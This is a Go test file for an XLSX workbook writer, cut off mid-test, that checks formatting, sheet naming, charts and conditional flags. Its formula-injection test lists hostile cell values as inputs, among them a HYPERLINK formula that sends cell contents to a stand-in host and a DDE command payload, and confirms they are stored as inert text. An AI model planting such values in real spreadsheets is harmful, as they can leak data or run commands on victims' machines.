package workbook

import (
	"archive/zip"
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"iter"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata")

// rowsOf yields the given rows.
func rowsOf(rows ...[]any) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
}

// numbered yields n rows {"row i", i} for i = 1…n.
func numbered(n int) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		for i := 1; i <= n; i++ {
			if !yield([]any{fmt.Sprintf("row %d", i), i}, nil) {
				return
			}
		}
	}
}

var twoCols = []Column{{Header: "Name"}, {Header: "N", Kind: Int}}

// writeBytes runs write with the given row limit and returns the workbook.
func writeBytes(t testing.TB, maxRows int, sheets ...Sheet) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := write(&buf, limits{rows: maxRows, memory: spillMemory}, Options{}, sheets); err != nil {
		t.Fatalf("write: %v", err)
	}
	return buf.Bytes()
}

func open(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("excelize.OpenReader: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// sheetXML returns the XML of the i-th worksheet part (1-based, in creation order).
func sheetXML(t testing.TB, data []byte, i int) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(fmt.Sprintf("xl/worksheets/sheet%d.xml", i))
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestWriteRoundTrip(t *testing.T) {
	when := time.Date(2024, 3, 5, 14, 30, 15, 0, time.FixedZone("CET", 3600))
	users := Sheet{
		Name: "Users",
		Columns: []Column{
			{Header: "Name"},
			{Header: "Sign-ins", Kind: Int},
			{Header: "Score", Kind: Float, Width: 11.5},
			{Header: "Enabled", Kind: Bool},
			{Header: "Last sign-in", Kind: Time},
			{Header: "MFA", Kind: Percent},
		},
		Rows: rowsOf(
			[]any{"Adele", 42, 1.5, true, when, 0.25},
			[]any{"Bob", int64(1) << 40, float32(2.5), false, time.Time{}, 1},
			[]any{nil, nil, math.NaN(), nil, nil, math.Inf(1)},
		),
	}
	empty := Sheet{Name: "Groups", Columns: []Column{{Header: "Group"}}}
	data := writeBytes(t, excelize.TotalRows, users, empty)
	f := open(t, data)

	if got, want := f.GetSheetList(), []string{"Users", "Groups"}; !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("active sheet = %d, want 0", got)
	}

	rows, err := f.GetRows("Users")
	if err != nil {
		t.Fatal(err)
	}
	wantRows := [][]string{
		{"Name", "Sign-ins", "Score", "Enabled", "Last sign-in", "MFA"},
		{"Adele", "42", "1.50", "TRUE", "2024-03-05 13:30", "25.00%"},
		{"Bob", "1,099,511,627,776", "2.50", "FALSE", "", "100.00%"},
	}
	if !slices.EqualFunc(rows, wantRows, slices.Equal) {
		t.Errorf("formatted rows =\n%q\nwant\n%q", rows, wantRows)
	}

	types := map[string]excelize.CellType{
		"A2": excelize.CellTypeInlineString,
		"B2": excelize.CellTypeUnset, // numeric cells carry no t attribute
		"C2": excelize.CellTypeUnset,
		"D2": excelize.CellTypeBool,
		"E2": excelize.CellTypeUnset,
		"F2": excelize.CellTypeUnset,
	}
	for cell, want := range types {
		if got, err := f.GetCellType("Users", cell); err != nil || got != want {
			t.Errorf("GetCellType(%q) = %v, %v; want %v", cell, got, err, want)
		}
	}
	raw, err := f.GetRows("Users", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := raw[1][1:4], []string{"42", "1.5", "1"}; !slices.Equal(got, want) {
		t.Errorf("raw B2:D2 = %q, want %q", got, want)
	}
	// The date is a real Excel serial number of the UTC time.
	serial, err := excelize.ExcelDateToTime(mustFloat(t, raw[1][4]), false)
	if err != nil || !serial.Round(time.Second).Equal(when) {
		t.Errorf("E2 = %s (%v), want %s", raw[1][4], serial, when.UTC())
	}
	for _, cell := range []string{"A4", "B4", "C4", "D4", "E4", "F4"} {
		if v, err := f.GetCellValue("Users", cell); err != nil || v != "" {
			t.Errorf("GetCellValue(%s) = %q, %v; want blank (nil, NaN, Inf)", cell, v, err)
		}
	}

	// Header: bold, frozen, filtered.
	st, _ := f.GetCellStyle("Users", "C1")
	if s, err := f.GetStyle(st); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header C1 style = %+v, %v; want bold", s, err)
	}
	for _, sheet := range []string{"Users", "Groups"} {
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 || p.XSplit != 0 || p.TopLeftCell != "A2" {
			t.Errorf("GetPanes(%q) = %+v, %v; want frozen below row 1", sheet, p, err)
		}
	}
	for i, want := range []string{`<autoFilter ref="$A$1:$F$4"`, `<autoFilter ref="$A$1:$A$1"`} {
		if x := sheetXML(t, data, i+1); !strings.Contains(x, want) {
			t.Errorf("sheet%d.xml lacks %s", i+1, want)
		}
	}
	var filters []string
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" {
			filters = append(filters, dn.Scope+"="+dn.RefersTo)
		}
	}
	if want := []string{"Users='Users'!$A$1:$F$4", "Groups='Groups'!$A$1:$A$1"}; !slices.Equal(filters, want) {
		t.Errorf("filter database names = %q, want %q", filters, want)
	}

	// Excel requires <col> elements in ascending order.
	cols := regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(sheetXML(t, data, 1), -1)
	var order []string
	for _, c := range cols {
		order = append(order, c[1])
	}
	if want := []string{"1", "2", "3", "4", "5", "6"}; !slices.Equal(order, want) {
		t.Errorf("<col> order = %q, want %q", order, want)
	}

	// Widths: the explicit one, kind defaults, and a header wider than the default.
	for col, want := range map[string]float64{"A": 24, "B": 12, "C": 11.5, "D": 11, "E": 18, "F": 10} {
		if got, err := f.GetColWidth("Users", col); err != nil || got != want {
			t.Errorf("GetColWidth(Users, %s) = %v, %v; want %v", col, got, err, want)
		}
	}
}

func mustFloat(t testing.TB, s string) float64 {
	t.Helper()
	var v float64
	if _, err := fmt.Sscan(s, &v); err != nil {
		t.Fatalf("parse %q: %v", s, err)
	}
	return v
}

func TestWriteWideHeader(t *testing.T) {
	long := strings.Repeat("x", 30)
	huge := strings.Repeat("y", 200)
	data := writeBytes(t, excelize.TotalRows, Sheet{Name: "S", Columns: []Column{{Header: long, Kind: Int}, {Header: huge}}})
	f := open(t, data)
	for col, want := range map[string]float64{"A": 34, "B": maxColumnWidth} {
		if got, _ := f.GetColWidth("S", col); got != want {
			t.Errorf("GetColWidth(S, %s) = %v, want %v", col, got, want)
		}
	}
}

// TestWriteFormulaText checks that directory text which looks like a formula
// (CSV/formula injection) is stored as text and reads back unchanged.
func TestWriteFormulaText(t *testing.T) {
	values := []string{
		"=1+2",
		"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
		"+1+1",
		"-2+3",
		"@SUM(1,2)",
		"=cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"\r\n=1+1",
		" =1+1",
		"=1+1 ",
		"plain",
	}
	rows := make([][]any, len(values))
	for i, v := range values {
		rows[i] = []any{v}
	}
	data := writeBytes(t, excelize.TotalRows, Sheet{Name: "Users", Columns: []Column{{Header: "Display name"}}, Rows: rowsOf(rows...)})
	if x := sheetXML(t, data, 1); strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
		t.Errorf("sheet1.xml contains a formula element:\n%s", x)
	}
	f := open(t, data)
	for i, want := range values {
		cell := fmt.Sprintf("A%d", i+2)
		if formula, err := f.GetCellFormula("Users", cell); err != nil || formula != "" {
			t.Errorf("GetCellFormula(%s) = %q, %v; want no formula", cell, formula, err)
		}
		if typ, err := f.GetCellType("Users", cell); err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("GetCellType(%s) = %v, %v; want inline string", cell, typ, err)
		}
		if got, err := f.GetCellValue("Users", cell); err != nil || got != want {
			t.Errorf("GetCellValue(%s) = %q, %v; want %q", cell, got, err, want)
		}
		// The Text column's "@" format keeps the value text when a user edits it.
		st, _ := f.GetCellStyle("Users", cell)
		if s, err := f.GetStyle(st); err != nil || s.NumFmt != 49 {
			t.Errorf("style of %s = %+v, %v; want number format 49 (@)", cell, s, err)
		}
	}
}

func TestWriteContinuation(t *testing.T) {
	tests := []struct {
		name    string
		maxRows int
		rows    int
		want    []string // sheet names
		last    int      // data rows on the last sheet
	}{
		{"fits", 4, 3, []string{"Users"}, 3},
		{"one over", 4, 4, []string{"Users", "Users (2)"}, 1},
		{"exact multiple", 4, 6, []string{"Users", "Users (2)"}, 3},
		{"three sheets", 4, 7, []string{"Users", "Users (2)", "Users (3)"}, 1},
		{"one data row per sheet", 2, 3, []string{"Users", "Users (2)", "Users (3)"}, 1},
		{"empty", 4, 0, []string{"Users"}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := writeBytes(t, tt.maxRows, Sheet{Name: "Users", Columns: twoCols, Rows: numbered(tt.rows)})
			f := open(t, data)
			if got := f.GetSheetList(); !slices.Equal(got, tt.want) {
				t.Fatalf("sheets = %q, want %q", got, tt.want)
			}
			next := 1
			for i, sheet := range tt.want {
				rows, err := f.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				if len(rows) == 0 || !slices.Equal(rows[0], []string{"Name", "N"}) {
					t.Fatalf("%s header = %q, want [Name N]", sheet, rows)
				}
				if len(rows) > tt.maxRows {
					t.Errorf("%s has %d rows, limit %d", sheet, len(rows), tt.maxRows)
				}
				if i == len(tt.want)-1 && len(rows)-1 != tt.last {
					t.Errorf("%s has %d data rows, want %d", sheet, len(rows)-1, tt.last)
				}
				for _, r := range rows[1:] {
					if want := fmt.Sprintf("row %d", next); r[0] != want {
						t.Errorf("%s: row = %q, want %q", sheet, r[0], want)
					}
					next++
				}
				p, err := f.GetPanes(sheet)
				if err != nil || !p.Freeze || p.YSplit != 1 {
					t.Errorf("GetPanes(%q) = %+v, %v; want frozen header", sheet, p, err)
				}
				if x := sheetXML(t, data, i+1); !strings.Contains(x, fmt.Sprintf(`<autoFilter ref="$A$1:$B$%d"`, len(rows))) {
					t.Errorf("%s: autofilter does not cover A1:B%d", sheet, len(rows))
				}
			}
			if next-1 != tt.rows {
				t.Errorf("read %d data rows, want %d", next-1, tt.rows)
			}
		})
	}
}

func TestWriteContinuationNames(t *testing.T) {
	long := strings.Repeat("L", 31)
	data := writeBytes(t, 2,
		Sheet{Name: "Users", Columns: twoCols, Rows: numbered(3)},
		Sheet{Name: "users (2)", Columns: twoCols, Rows: numbered(1)}, // taken, so the continuation skips it
		Sheet{Name: long, Columns: twoCols, Rows: numbered(2)},
	)
	f := open(t, data)
	want := []string{"Users", "Users (3)", "Users (4)", "users (2)", long, strings.Repeat("L", 27) + " (2)"}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Errorf("sheets = %q, want %q", got, want)
	}
}

func TestWriteApostropheName(t *testing.T) {
	data := writeBytes(t, excelize.TotalRows, Sheet{Name: "O'Brien's", Columns: twoCols, Rows: numbered(2)})
	f := open(t, data)
	if got := f.GetSheetList(); !slices.Equal(got, []string{"O'Brien's"}) {
		t.Fatalf("sheets = %q", got)
	}
	// No _FilterDatabase name (excelize does not escape the apostrophe);
	// the print titles, which Write names itself, are escaped.
	want := []excelize.DefinedName{{Name: "_xlnm.Print_Titles", RefersTo: "'O''Brien''s'!$1:$1", Scope: "O'Brien's"}}
	if got := f.GetDefinedName(); !slices.Equal(got, want) {
		t.Errorf("defined names = %+v, want %+v", got, want)
	}
	if x := sheetXML(t, data, 1); !strings.Contains(x, `<autoFilter ref="$A$1:$B$3"`) {
		t.Errorf("sheet lacks its autofilter")
	}
}

func TestWriteRowsError(t *testing.T) {
	errBoom := errors.New("boom")
	stopped := false
	rows := func(yield func([]any, error) bool) {
		if !yield([]any{"a", 1}, nil) {
			return
		}
		if !yield(nil, errBoom) {
			stopped = true
			return
		}
		t.Error("iteration continued after an error")
	}
	var buf bytes.Buffer
	err := Write(&buf, Sheet{Name: "Users", Columns: twoCols, Rows: rows})
	if !errors.Is(err, errBoom) {
		t.Fatalf("Write = %v, want %v", err, errBoom)
	}
	if want := `workbook: sheet "Users": boom`; err.Error() != want {
		t.Errorf("Write error = %q, want %q", err, want)
	}
	if !stopped {
		t.Error("Rows was not stopped after the error")
	}
}

func TestWriteInvalid(t *testing.T) {
	tests := []struct {
		name   string
		sheets []Sheet
		want   string
	}{
		{"no sheets", nil, "workbook: no sheets"},
		{"no columns", []Sheet{{Name: "S"}}, `workbook: sheet "S": no columns`},
		{"bad kind", []Sheet{{Name: "S", Columns: []Column{{Header: "H", Kind: 99}}}}, `workbook: sheet "S": column "H": unknown kind Kind(99)`},
		{"bad width", []Sheet{{Name: "S", Columns: []Column{{Header: "H", Width: -1}}}}, `workbook: sheet "S": column "H": width -1 out of range`},
		{"duplicate", []Sheet{{Name: "Users", Columns: twoCols}, {Name: "USERS", Columns: twoCols}}, `workbook: sheet "USERS": duplicate sheet name "USERS"`},
		{"duplicate after cleaning", []Sheet{{Name: "a/b", Columns: twoCols}, {Name: "a?b", Columns: twoCols}}, `workbook: sheet "a?b": duplicate sheet name "a_b"`},
		{"short row", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{"x"})}}, `workbook: sheet "S": row 1: 1 values for 2 columns`},
		{"int in text", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{1, 1})}}, `workbook: sheet "S": row 1: column "Name": int value in a Text column`},
		{"string in int", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{"a", "1"})}}, `workbook: sheet "S": row 1: column "N": string value in a Int column`},
		{"float in int", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{"a", 1.5})}}, `workbook: sheet "S": row 1: column "N": float64 value in a Int column`},
		{"time in text", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{time.Now(), 1})}}, `workbook: sheet "S": row 1: column "Name": time.Time value in a Text column`},
		{"unsupported", []Sheet{{Name: "S", Columns: twoCols, Rows: rowsOf([]any{[]byte("x"), 1})}}, `workbook: sheet "S": row 1: column "Name": unsupported value type []uint8`},
		{"flag on int", []Sheet{{Name: "S", Columns: []Column{{Header: "N", Kind: Int, Flag: true}}}}, `workbook: sheet "S": column "N": flag on a Int column, want Bool`},
		{"chart no category", []Sheet{{Name: "S", Columns: twoCols, Chart: &Chart{Category: "Tenant", Series: []string{"N"}}}}, `workbook: sheet "S": chart category: no column "Tenant"`},
		{"chart no series", []Sheet{{Name: "S", Columns: twoCols, Chart: &Chart{Category: "Name"}}}, `workbook: sheet "S": chart: no series`},
		{"chart unknown series", []Sheet{{Name: "S", Columns: twoCols, Chart: &Chart{Category: "Name", Series: []string{"M"}}}}, `workbook: sheet "S": chart series: no column "M"`},
		{"chart text series", []Sheet{{Name: "S", Columns: twoCols, Chart: &Chart{Category: "N", Series: []string{"Name"}}}}, `workbook: sheet "S": chart series: column "Name" is Text, want Int, Float or Percent`},
		{"chart series twice", []Sheet{{Name: "S", Columns: twoCols, Chart: &Chart{Category: "Name", Series: []string{"N", "N"}}}}, `workbook: sheet "S": chart series: column "N" listed twice`},
		{"chart ambiguous", []Sheet{{Name: "S", Columns: []Column{{Header: "N", Kind: Int}, {Header: "N", Kind: Int}}, Chart: &Chart{Category: "N", Series: []string{"N"}}}}, `workbook: sheet "S": chart category: more than one column "N"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := Write(io.Discard, tt.sheets...)
			if err == nil || err.Error() != tt.want {
				t.Errorf("Write() = %v, want %q", err, tt.want)
			}
		})
	}
}

// failWriter fails every write.
type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

func TestWriteWriterError(t *testing.T) {
	errDisk := errors.New("disk full")
	err := Write(failWriter{errDisk}, Sheet{Name: "S", Columns: twoCols, Rows: numbered(10)})
	if !errors.Is(err, errDisk) {
		t.Errorf("Write(failing writer) = %v, want %v", err, errDisk)
	}
}

func TestDump(t *testing.T) {
	when := time.Date(2024, 3, 5, 14, 30, 15, 0, time.UTC)
	data := writeBytes(t, 3,
		Sheet{
			Name: "Summary",
			Columns: []Column{
				{Header: "Tenant"}, {Header: "Users", Kind: Int}, {Header: "Ratio", Kind: Float},
				{Header: "OK", Kind: Bool}, {Header: "When", Kind: Time}, {Header: "MFA", Kind: Percent},
			},
			Rows: rowsOf(
				[]any{"Contoso", 12, 0.1, true, when, 0.5},
				[]any{"Tab\there\\ and\nnewline", nil, nil, false, nil, nil},
			),
		},
		Sheet{Name: "Users", Columns: twoCols, Rows: numbered(3)},
	)
	got, err := Dump(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "dump.golden")
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("Dump() =\n%s\nwant (%s)\n%s", got, golden, want)
	}
}

func TestDumpNotXLSX(t *testing.T) {
	data := []byte("not a zip")
	if _, err := Dump(bytes.NewReader(data), int64(len(data))); err == nil || !strings.HasPrefix(err.Error(), "workbook: dump: ") {
		t.Errorf("Dump(garbage) = %v, want a workbook: dump error", err)
	}
}

func TestIsDateFormat(t *testing.T) {
	tests := map[string]bool{
		TimeFormat:         true,
		"yyyy-mm-dd":       true,
		"[h]:mm":           true,
		"[$-409]d-mmm":     true,
		"0.00%":            false,
		"#,##0":            false,
		`"days"0`:          false,
		`0\d`:              false,
		"[Red]0.00":        false,
		"General":          false,
		"@":                false,
		`_("$"* #,##0_)`:   false,
		"[<=9999999]###-#": false,
	}
	for code, want := range tests {
		if got := isDateFormat(code); got != want {
			t.Errorf("isDateFormat(%q) = %v, want %v", code, got, want)
		}
	}
}

func TestSheetName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Users", "Users"},
		{"", "Sheet"},
		{"   ", "Sheet"},
		{"'''", "Sheet"},
		{"a/b\\c?d*e[f]g:h", "a_b_c_d_e_f_g_h"},
		{"'quoted'", "quoted"},
		{" ' spaced ' ", "spaced"},
		{"O'Brien", "O'Brien"},
		{"tab\there", "tab here"},
		{"history", "history_"},
		{"History", "History_"},
		{strings.Repeat("a", 40), strings.Repeat("a", 31)},
		{strings.Repeat("a", 30) + "'b", strings.Repeat("a", 30)},
		{strings.Repeat("é", 40), strings.Repeat("é", 31)},
		{strings.Repeat("😀", 20), strings.Repeat("😀", 15)}, // 2 UTF-16 units each
		{"bad\xffutf8", "bad utf8"},
	}
	for _, tt := range tests {
		if got := SheetName(tt.in); got != tt.want {
			t.Errorf("SheetName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzSheetName(f *testing.F) {
	for _, s := range []string{"", "Users", "'", "a'b", "[x]", "History", "😀", strings.Repeat("x", 40), "\x00\xff", " ' "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SheetName(s)
		if got == "" {
			t.Fatalf("SheetName(%q) is empty", s)
		}
		if n := utf8.RuneCountInString(got); n > 31 {
			t.Errorf("SheetName(%q) = %q has %d runes, want ≤ 31", s, got, n)
		}
		if n := utf16Len(got); n > 31 {
			t.Errorf("SheetName(%q) = %q has %d UTF-16 units, want ≤ 31", s, got, n)
		}
		if strings.ContainsAny(got, `:\/?*[]`) {
			t.Errorf("SheetName(%q) = %q contains a forbidden character", s, got)
		}
		if strings.HasPrefix(got, "'") || strings.HasSuffix(got, "'") {
			t.Errorf("SheetName(%q) = %q starts or ends with an apostrophe", s, got)
		}
		if !utf8.ValidString(got) {
			t.Errorf("SheetName(%q) = %q is not valid UTF-8", s, got)
		}
		if again := SheetName(got); again != got {
			t.Errorf("SheetName(SheetName(%q)) = %q, want %q (idempotent)", s, again, got)
		}
		// excelize, which validates names the way Excel does, accepts it.
		x := excelize.NewFile()
		defer x.Close()
		if err := x.SetSheetName("Sheet1", got); err != nil {
			t.Errorf("excelize rejects SheetName(%q) = %q: %v", s, got, err)
		}
	})
}

func BenchmarkWrite(b *testing.B) {
	const rowsPerRun = 100_000
	cols := []Column{
		{Header: "Tenant"}, {Header: "User"}, {Header: "Sign-ins", Kind: Int}, {Header: "Score", Kind: Float},
		{Header: "Enabled", Kind: Bool}, {Header: "Last sign-in", Kind: Time}, {Header: "MFA", Kind: Percent}, {Header: "Note"},
	}
	base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	rows := func(yield func([]any, error) bool) {
		row := make([]any, len(cols)) // reused: Write does not keep rows
		for i := range rowsPerRun {
			row[0] = "Contoso"
			row[1] = "user" + fmt.Sprint(i) + "@contoso.example"
			row[2] = i
			row[3] = float64(i) / 7
			row[4] = i%2 == 0
			row[5] = base.Add(time.Duration(i) * time.Minute)
			row[6] = float64(i%100) / 100
			row[7] = "=not a formula"
			if !yield(row, nil) {
				return
			}
		}
	}
	var n countingWriter
	b.ReportAllocs()
	for b.Loop() {
		if err := Write(&n, Sheet{Name: "Users", Columns: cols, Rows: rows}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(rowsPerRun*b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(n)/float64(b.N), "xlsx-bytes/op")
}

// countingWriter discards what it is given and counts the bytes.
type countingWriter int64

func (w *countingWriter) Write(p []byte) (int, error) {
	*w += countingWriter(len(p))
	return len(p), nil
}

// zipPart returns the content of the named part of the workbook in data.
func zipPart(t testing.TB, data []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatalf("part %s: %v", name, err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hasPart reports whether the workbook in data has the named part.
func hasPart(t testing.TB, data []byte, name string) bool {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	_, err = fs.Stat(zr, name)
	return err == nil
}

// flagRows yields n rows {"row i", i, i%3 == 0, i%5 == 0}.
func flagRows(n int) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		for i := 1; i <= n; i++ {
			if !yield([]any{fmt.Sprintf("row %d", i), i, i%3 == 0, i%5 == 0}, nil) {
				return
			}
		}
	}
}

var flagCols = []Column{
	{Header: "Name"}, {Header: "N", Kind: Int},
	{Header: "No MFA", Kind: Bool, Flag: true}, {Header: "Inactive", Kind: Bool, Flag: true},
}

func TestWriteFlags(t *testing.T) {
	data := writeBytes(t, 4,
		Sheet{Name: "Users", Columns: flagCols, Rows: flagRows(7)},
		Sheet{Name: "Empty", Columns: flagCols},
		Sheet{Name: "Plain", Columns: twoCols, Rows: numbered(2)},
	)
	f := open(t, data)
	if got, want := f.GetSheetList(), []string{"Users", "Users (2)", "Users (3)", "Empty", "Plain"}; !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	rules := []excelize.ConditionalFormatOptions{
		{Type: "formula", Criteria: "$C2=TRUE", Format: intPtr(0)},
		{Type: "formula", Criteria: "$D2=TRUE", Format: intPtr(0)},
	}
	tests := []struct {
		sheet string
		want  map[string][]excelize.ConditionalFormatOptions
	}{
		{"Users", map[string][]excelize.ConditionalFormatOptions{"A2:D4": rules}},
		{"Users (2)", map[string][]excelize.ConditionalFormatOptions{"A2:D4": rules}}, // continuation sheets keep the flags
		{"Users (3)", map[string][]excelize.ConditionalFormatOptions{"A2:D2": rules}},
		{"Empty", map[string][]excelize.ConditionalFormatOptions{}}, // no data rows, no rule
		{"Plain", map[string][]excelize.ConditionalFormatOptions{}},
	}
	for _, tt := range tests {
		got, err := f.GetConditionalFormats(tt.sheet)
		if err != nil {
			t.Fatalf("GetConditionalFormats(%q): %v", tt.sheet, err)
		}
		if len(got) != len(tt.want) {
			t.Errorf("GetConditionalFormats(%q) = %+v, want %+v", tt.sheet, got, tt.want)
			continue
		}
		for ref, want := range tt.want {
			if !slices.EqualFunc(got[ref], want, sameRule) {
				t.Errorf("GetConditionalFormats(%q)[%q] = %+v, want %+v", tt.sheet, ref, got[ref], want)
			}
		}
	}
	// The rules share one differential format: a light-red fill, nothing else.
	st, err := f.GetConditionalStyle(0)
	if err != nil {
		t.Fatal(err)
	}
	if st.Fill.Type != "pattern" || st.Fill.Pattern != 1 || !slices.Equal(st.Fill.Color, []string{FlagFill}) || st.Font != nil {
		t.Errorf("GetConditionalStyle(0) = %+v, fill %+v; want a solid %s fill", st, st.Fill, FlagFill)
	}
	// The flags stay plain booleans with the Bool column's style, no fill.
	for _, cell := range []string{"C4", "D3"} {
		if typ, err := f.GetCellType("Users (2)", cell); err != nil || typ != excelize.CellTypeBool {
			t.Errorf("GetCellType(Users (2), %s) = %v, %v; want bool", cell, typ, err)
		}
		id, err := f.GetCellStyle("Users (2)", cell)
		if err != nil {
			t.Fatal(err)
		}
		if s, err := f.GetStyle(id); err != nil || s.Fill.Pattern != 0 || s.NumFmt != 0 {
			t.Errorf("style of Users (2)!%s = %+v, %v; want no fill, General", cell, s, err)
		}
	}
}

func intPtr(i int) *int { return &i }

func sameRule(a, b excelize.ConditionalFormatOptions) bool {
	return a.Type == b.Type && a.Criteria == b.Criteria && (a.Format == nil) == (b.Format == nil) &&
		(a.Format == nil || *a.Format == *b.Format)
}

// chartRefs returns the cell references (<c:f> elements) of a chart part.
func chartRefs(xml string) []string {
	var refs []string
	for _, m := range regexp.MustCompile(`<f>([^<]*)</f>`).FindAllStringSubmatch(xml, -1) {
		refs = append(refs, strings.ReplaceAll(m[1], "&#39;", "'"))
	}
	return refs
}

func TestWriteChart(t *testing.T) {
	summary := Sheet{
		Name: "Summary",
		Columns: []Column{
			{Header: "Tenant"}, {Header: "Users", Kind: Int}, {Header: "MFA coverage", Kind: Percent},
			{Header: "Secure score", Kind: Percent}, {Header: "Failed", Kind: Bool, Flag: true},
		},
		Rows: rowsOf(
			[]any{"Contoso", 120, 0.8, 0.55, false},
			[]any{"Fabrikam", 40, 0.35, 0.7, true},
			[]any{"Northwind", 300, 0.95, nil, false},
		),
		Chart: &Chart{Title: "MFA coverage per tenant", Category: "Tenant", Series: []string{"MFA coverage", "Secure score"}, Percent: true},
	}
	counts := Sheet{
		Name:    "O'Brien's",
		Columns: twoCols,
		Rows:    numbered(5),
		Chart:   &Chart{Category: "Name", Series: []string{"N"}},
	}
	empty := Sheet{Name: "Nobody", Columns: twoCols, Chart: &Chart{Category: "Name", Series: []string{"N"}}}
	data := writeBytes(t, 4, summary, counts, empty)
	f := open(t, data)
	if got, want := f.GetSheetList(), []string{"Summary", "O'Brien's", "O'Brien's (2)", "Nobody"}; !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}

	tests := []struct {
		sheet, part, drawing, chart string
		refs                        []string
	}{
		{"Summary", "xl/worksheets/sheet1.xml", "drawing1.xml", "chart1.xml", []string{
			"'Summary'!$C$1", "'Summary'!$A$2:$A$4", "'Summary'!$C$2:$C$4",
			"'Summary'!$D$1", "'Summary'!$A$2:$A$4", "'Summary'!$D$2:$D$4",
		}},
		// The chart covers the first worksheet's rows; the apostrophe is doubled.
		{"O'Brien's", "xl/worksheets/sheet2.xml", "drawing2.xml", "chart2.xml", []string{
			"'O''Brien''s'!$B$1", "'O''Brien''s'!$A$2:$A$4", "'O''Brien''s'!$B$2:$B$4",
		}},
	}
	for _, tt := range tests {
		// worksheet → drawing → chart, by relationship.
		if x := zipPart(t, data, tt.part); !strings.Contains(x, `<drawing r:id="rId1"/>`) {
			t.Errorf("%s: %s has no drawing rId1", tt.sheet, tt.part)
		}
		rels := zipPart(t, data, strings.Replace(tt.part, "worksheets/", "worksheets/_rels/", 1)+".rels")
		if want := `<Relationship Id="rId1" Type="` + relTypeDrawing + `" Target="../drawings/` + tt.drawing + `"`; !strings.Contains(rels, want) {
			t.Errorf("%s: rels = %s, want %s", tt.sheet, rels, want)
		}
		drels := zipPart(t, data, "xl/drawings/_rels/"+tt.drawing+".rels")
		if want := `Target="../charts/` + tt.chart + `"`; !strings.Contains(drels, want) {
			t.Errorf("%s: drawing rels = %s, want %s", tt.sheet, drels, want)
		}
		chart := zipPart(t, data, "xl/charts/"+tt.chart)
		if got := chartRefs(chart); !slices.Equal(got, tt.refs) {
			t.Errorf("%s: chart references = %q, want %q", tt.sheet, got, tt.refs)
		}
		if !strings.Contains(chart, `<barDir val="bar">`) || !strings.Contains(chart, `<grouping val="clustered">`) {
			t.Errorf("%s: %s is not a clustered bar chart", tt.sheet, tt.chart)
		}
		types := zipPart(t, data, "[Content_Types].xml")
		for _, part := range []string{"/xl/drawings/" + tt.drawing, "/xl/charts/" + tt.chart} {
			if !strings.Contains(types, `PartName="`+part+`"`) {
				t.Errorf("[Content_Types].xml lacks %s", part)
			}
		}
	}
	chart1 := zipPart(t, data, "xl/charts/chart1.xml")
	for _, want := range []string{"MFA coverage per tenant", `<numFmt formatCode="0%"`, `<max val="1">`, `<min val="0">`} {
		if !strings.Contains(chart1, want) {
